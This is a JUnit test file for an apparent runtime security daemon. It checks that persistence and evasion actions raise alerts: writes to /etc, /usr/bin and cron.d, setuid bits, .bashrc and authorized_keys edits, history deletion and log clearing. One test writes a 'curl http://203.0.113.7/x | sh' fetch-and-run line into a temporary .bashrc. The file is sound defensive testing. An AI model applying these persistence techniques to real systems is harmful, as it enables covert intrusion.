package dev.peregrine.probe.detections;

import static org.junit.jupiter.api.Assertions.assertEquals;

import dev.peregrine.probe.bpf.RequiresBpf;
import dev.peregrine.probe.daemon.AlertLines;

import java.nio.file.Files;
import java.nio.file.Path;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * Persistence and defense evasion through files: system directories, cron, shell start-up files, SSH keys, logs
 * and history. Files made in system directories carry the test's marker in their name and are removed by the
 * action itself and again in {@code finally}.
 */
@ExtendWith({RequiresBpf.class, LiveDaemon.Shared.class})
class PersistenceDetectionsTest extends DetectionTest {

    /** Writes {@code path} and removes it again, from python (or from python named {@code alias}). */
    private void writeAndRemove(String alias, Path path) throws Exception {
        String script = "# " + m + "\nimport os\nopen('" + path + "', 'w').write('# peregrine test\\n')\nos.remove('"
                + path + "')\n";
        try {
            String exe = alias == null ? Run.python() : Aliases.link(tmp, alias, Run.python()).toString();
            Run.ok(tmp, exe, "-c", script);
        } finally {
            Files.deleteIfExists(path);
        }
    }

    @Test
    @Triggers("Write below /etc by untrusted program")
    void scriptWritesBelowEtc() throws Exception {
        writeAndRemove(null, Path.of("/etc", m));
        String alert = daemon.await("Write below /etc by untrusted program", m);
        assertEquals("/etc/" + m, AlertLines.value(alert, "fd.name"));
        assertEquals("Error", AlertLines.value(alert, "priority"));
    }

    @Test
    @NearMiss("Write below /etc by untrusted program")
    void packageManagerWritesBelowEtc() throws Exception {
        writeAndRemove("dpkg", Path.of("/etc", m));
        daemon.assertNone("Write below /etc by untrusted program", m);
    }

    private void replaceABinary(String alias) throws Exception {
        Path file = Path.of("/usr/bin", m);
        Path renamed = Path.of("/usr/bin", m + "-old");
        String script = "# " + m + "\nimport os\nopen('" + file + "', 'w').write('#!/bin/sh\\n')\nos.rename('"
                + file + "', '" + renamed + "')\nos.remove('" + renamed + "')\n";
        try {
            String exe = alias == null ? Run.python() : Aliases.link(tmp, alias, Run.python()).toString();
            Run.ok(tmp, exe, "-c", script);
        } finally {
            Files.deleteIfExists(file);
            Files.deleteIfExists(renamed);
        }
    }

    @Test
    @Triggers({"Write below binary dir", "Modify binary dirs"})
    void scriptReplacesABinary() throws Exception {
        replaceABinary(null);
        assertEquals("/usr/bin/" + m, AlertLines.value(daemon.await("Write below binary dir", m), "fd.name"));
        String rename = daemon.await("Modify binary dirs", m + "-old");
        assertEquals("/usr/bin/" + m, AlertLines.value(rename, "evt.abspath"));
    }

    @Test
    @NearMiss({"Write below binary dir", "Modify binary dirs"})
    void packageManagerReplacesABinary() throws Exception {
        replaceABinary("dpkg");
        daemon.assertNone("Write below binary dir", m);
        daemon.assertNone("Modify binary dirs", m);
    }

    private void mkdirInBin(String alias) throws Exception {
        Path dir = Path.of("/usr/bin", m);
        String script = "# " + m + "\nimport os\nos.mkdir('" + dir + "')\nos.rmdir('" + dir + "')\n";
        try {
            String exe = alias == null ? Run.python() : Aliases.link(tmp, alias, Run.python()).toString();
            Run.ok(tmp, exe, "-c", script);
        } finally {
            Files.deleteIfExists(dir);
        }
    }

    @Test
    @Triggers("Mkdir binary dirs")
    void scriptMakesADirectoryInBin() throws Exception {
        mkdirInBin(null);
        assertEquals("/usr/bin/" + m, AlertLines.value(daemon.await("Mkdir binary dirs", m), "evt.abspath"));
    }

    @Test
    @NearMiss("Mkdir binary dirs")
    void packageManagerMakesADirectoryInBin() throws Exception {
        mkdirInBin("dpkg");
        daemon.assertNone("Mkdir binary dirs", m);
    }

    @Test
    @Triggers("Set setuid or setgid bit")
    void chmodSetuid() throws Exception {
        Path file = Files.writeString(tmp.resolve(m), "x");
        Run.ok("chmod", "u+s,g+s", file.toString());
        String alert = daemon.await("Set setuid or setgid bit", m);
        assertEquals("06644", AlertLines.value(alert, "evt.arg.mode"));
    }

    @Test
    @NearMiss("Set setuid or setgid bit")
    void chmodExecutableAndSticky() throws Exception {
        Path file = Files.writeString(tmp.resolve(m), "x");
        Run.ok("chmod", "1755", file.toString());
        daemon.assertNone("Set setuid or setgid bit", m);
    }

    @Test
    @Triggers("Create files below dev")
    void fileCreatedInDev() throws Exception {
        writeAndRemove(null, Path.of("/dev", m));
        assertEquals("/dev/" + m, AlertLines.value(daemon.await("Create files below dev", m), "fd.name"));
    }

    @Test
    @NearMiss("Create files below dev")
    void writeToDevNull() throws Exception {
        Run.py(m, "open('/dev/null', 'w').write('x')\nopen('/dev/shm/" + m + "', 'w').close()\n"
                + "import os\nos.remove('/dev/shm/" + m + "')\n");
        daemon.assertNone("Create files below dev", m);
    }

    @Test
    @Triggers("Modify shell configuration file")
    void scriptAppendsToBashrc() throws Exception {
        Path home = Files.createDirectory(tmp.resolve(m));
        Run.py(m, "open('" + home + "/.bashrc', 'a').write('curl http://203.0.113.7/x | sh\\n')\n");
        assertEquals(home + "/.bashrc", AlertLines.value(daemon.await("Modify shell configuration file", m), "fd.name"));
    }

    @Test
    @NearMiss("Modify shell configuration file")
    void shellWritesBashrc() throws Exception {
        Path home = Files.createDirectory(tmp.resolve(m));
        Run.ok("/bin/sh", "-c", "echo 'alias ll=\"ls -l\"' >> " + home + "/.bashrc");
        Run.py(m, "open('" + home + "/notes.txt', 'w').write('x')\n");
        daemon.assertNone("Modify shell configuration file", m);
    }

    @Test
    @Triggers("Schedule cron jobs")
    void scriptWritesCronD() throws Exception {
        // The entry is a comment only, and removed at once: even a running cron would have nothing to run.
        writeAndRemove(null, Path.of("/etc/cron.d", m));
        assertEquals("/etc/cron.d/" + m, AlertLines.value(daemon.await("Schedule cron jobs", m), "fd.name"));
    }

    @Test
    @NearMiss("Schedule cron jobs")
    void cronLookalikeOutsideEtc() throws Exception {
        Path dir = Files.createDirectories(tmp.resolve("etc/cron.d"));
        writeAndRemove(null, dir.resolve(m));
        daemon.assertNone("Schedule cron jobs", m);
    }

    @Test
    @Triggers("Adding ssh keys to authorized_keys")
    void scriptAddsAnAuthorizedKey() throws Exception {
        Path ssh = Files.createDirectories(tmp.resolve(m).resolve(".ssh"));
        Run.py(m, "open('" + ssh + "/authorized_keys', 'a').write('ssh-ed25519 AAAA attacker\\n')\n");
        assertEquals(ssh + "/authorized_keys",
                AlertLines.value(daemon.await("Adding ssh keys to authorized_keys", m), "fd.name"));
    }

    @Test
    @NearMiss("Adding ssh keys to authorized_keys")
    void sshWritesKnownHosts() throws Exception {
        Path ssh = Files.createDirectories(tmp.resolve(m).resolve(".ssh"));
        Run.py(m, "open('" + ssh + "/known_hosts', 'a').write('host ssh-ed25519 AAAA\\n')\n");
        daemon.assertNone("Adding ssh keys to authorized_keys", m);
    }

    @Test
    @Triggers("Delete or rename shell history")
    void historyRemovedAndLinkedToDevNull() throws Exception {
        Path home = Files.createDirectory(tmp.resolve(m));
        Files.writeString(home.resolve(".bash_history"), "cat /etc/shadow\n");
        Run.ok("rm", "-f", home.resolve(".bash_history").toString());
        String m2 = Marker.next();
        Path home2 = Files.createDirectory(tmp.resolve(m2));
        Run.ok("ln", "-s", "/dev/null", home2.resolve(".zsh_history").toString());
        assertEquals("rm", AlertLines.value(daemon.await("Delete or rename shell history", m), "proc.name"));
        assertEquals("ln", AlertLines.value(daemon.await("Delete or rename shell history", m2), "proc.name"));
    }

    @Test
    @NearMiss("Delete or rename shell history")
    void otherDotFilesRemoved() throws Exception {
        Path home = Files.createDirectory(tmp.resolve(m));
        Files.writeString(home.resolve(".bashrc"), "x");
        Files.writeString(home.resolve("bash_history.txt"), "x");
        Run.ok("rm", "-f", home.resolve(".bashrc").toString(), home.resolve("bash_history.txt").toString());
        daemon.assertNone("Delete or rename shell history", m);
    }

    @Test
    @Triggers("Log file cleared")
    void logTruncated() throws Exception {
        Path log = Path.of("/var/log", "peregrine-test-" + m + ".log");
        try {
            Files.writeString(log, "sshd: Accepted password for root\n");
            Run.py(m, "open('" + log + "', 'w').close()\n");
            String alert = daemon.await("Log file cleared", m);
            assertEquals(log.toString(), AlertLines.value(alert, "fd.name"));
            assertEquals(0, Files.size(log));
        } finally {
            Files.deleteIfExists(log);
        }
    }

    @Test
    @NearMiss("Log file cleared")
    void logAppended() throws Exception {
        Path log = Path.of("/var/log", "peregrine-test-" + m + ".log");
        try {
            Files.writeString(log, "start\n");
            Run.py(m, "open('" + log + "', 'a').write('more\\n')\n");
            daemon.assertNone("Log file cleared", m);
        } finally {
            Files.deleteIfExists(log);
        }
    }
}
